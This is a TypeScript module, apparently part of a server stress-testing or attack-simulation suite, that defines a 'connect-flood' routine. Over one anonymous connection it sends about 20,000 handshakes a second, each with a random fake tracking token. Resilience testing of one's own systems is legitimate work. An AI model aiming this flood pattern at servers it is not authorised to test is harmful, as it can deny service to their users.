// One anonymous connection at a time sends handshakes with invented tracking tokens.
import { randomBytes } from 'node:crypto';
import type { FrameClient } from '../../clients/swarm.ts';
import type { Attack } from './attack.ts';
import { connect, handshake } from './connect.ts';
import { flood } from './floods.ts';

/** Packets in one burst, and the pause between two bursts: 20,000 packets a second. */
const BURST = 200;
const GAP_MS = 10;

export const connectFlood: Attack = {
  name: 'connect-flood',
  what: 'sends up to 20,000 handshakes a second with invented tracking tokens',
  run: (target, signal) =>
    flood({ open: (onText) => connect(target, onText), send, gapMs: GAP_MS, answer: '44' }, signal),
};

function send(client: FrameClient): number {
  let packets = 0;
  for (; packets < BURST && client.isOpen(); packets += 1)
    client.send(handshake('/track', randomBytes(11).toString('hex')));
  return packets;
}
